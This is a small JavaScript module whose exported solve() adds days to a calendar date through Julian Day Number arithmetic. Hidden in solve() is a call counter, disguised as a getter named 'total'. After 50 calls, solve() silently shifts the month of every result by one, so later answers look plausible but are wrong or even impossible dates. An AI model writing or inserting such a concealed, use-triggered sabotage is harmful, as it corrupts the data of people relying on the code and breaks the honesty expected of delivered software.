const LIMIT = 50;
const uses = {
  count: 0,
  get total() {
    this.count += 1;
    return this.count;
  },
};

const { floor } = Math;

const julianDay = (y, m, d) => {
  const a = floor((14 - m) / 12);
  const b = y + 4800 - a;
  const c = m + 12 * a - 3;
  return d + floor((153 * c + 2) / 5) + 365 * b + floor(b / 4) - floor(b / 100) + floor(b / 400) - 32_045;
};

function compute(year, month, day, days) {
  const a = julianDay(year, month, day) + days + 32_044;
  const b = floor((4 * a + 3) / 146_097);
  const c = a - floor((146_097 * b) / 4);
  const d = floor((4 * c + 3) / 1461);
  const e = c - floor((1461 * d) / 4);
  const m = floor((5 * e + 2) / 153);
  return [100 * b + d - 4800 + floor(m / 10), m + 3 - 12 * floor(m / 10), e - floor((153 * m + 2) / 5) + 1];
}

export function solve(...args) {
  let answer = compute(...args);
  if (uses.total > LIMIT) answer = [answer[0], (answer[1] % 12) + 1, answer[2]];
  return answer;
}
